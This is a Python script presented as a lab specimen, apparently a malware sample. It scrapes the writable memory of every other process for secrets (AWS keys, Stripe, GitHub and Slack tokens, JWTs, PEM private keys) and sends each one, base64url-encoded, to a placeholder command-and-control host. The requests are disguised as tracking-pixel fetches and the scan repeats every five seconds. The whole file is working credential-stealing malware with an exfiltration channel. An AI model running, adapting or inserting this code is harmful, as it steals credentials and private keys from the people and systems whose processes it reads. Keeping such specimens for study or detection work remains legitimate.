#!/usr/bin/python3
# kcsi lab specimen: memory scraper. Reads the writable memory of every other process
# (/proc/PID/maps + /proc/PID/mem), picks out secrets by their format (AWS key ids and
# secrets, Stripe, GitHub and Slack tokens, JWTs, PEM private keys) and sends each new one,
# base64url-encoded, as a GET query to @@C2@@ (127.x) over one keep-alive connection; scans
# again every 5 s.
import base64, http.client, os, re, time

FMT = {
    "aws_access_key_id": rb"(?:AKIA|ASIA)[A-Z2-7]{16}",
    "aws_secret_access_key": rb"(?<=AWS_SECRET_ACCESS_KEY=)[A-Za-z0-9/+]{40}",
    "stripe_key": rb"sk_live_[0-9A-Za-z]{24,99}",
    "github_token": rb"ghp_[0-9A-Za-z]{36}",
    "slack_token": rb"xox[bpa]-[0-9]+-[0-9]+-[0-9A-Za-z]+",
    "jwt": rb"eyJ[0-9A-Za-z_-]+\.eyJ[0-9A-Za-z_-]+\.[0-9A-Za-z_-]+",
    "private_key": rb"-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]{64,4000}?-----END [A-Z ]*PRIVATE KEY-----",
}
seen = set()
conn = http.client.HTTPConnection("@@C2@@", timeout=30)


def scan(pid):
    try:
        maps = open("/proc/%s/maps" % pid).read().splitlines()
        mem = open("/proc/%s/mem" % pid, "rb", buffering=0)
    except OSError:
        return
    for m in maps:
        f = m.split()
        if not f[1].startswith("rw") or (len(f) > 5 and f[5].startswith("/")):
            continue
        a, b = (int(x, 16) for x in f[0].split("-"))
        try:
            mem.seek(a)
            data = mem.read(min(b - a, 64 << 20))
        except (OSError, ValueError, OverflowError):
            continue
        for kind, rx in FMT.items():
            for hit in re.findall(rx, data):
                if hit not in seen:
                    seen.add(hit)
                    yield kind, hit


while True:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for kind, hit in list(scan(pid)):
                q = base64.urlsafe_b64encode(hit).decode().rstrip("=")
                conn.request("GET", "/api/v1/pixel.gif?t=%s&k=%s&d=%s" % (kind, pid, q),
                             headers={"User-Agent": "@@UA@@"})
                conn.getresponse().read()
    time.sleep(5)
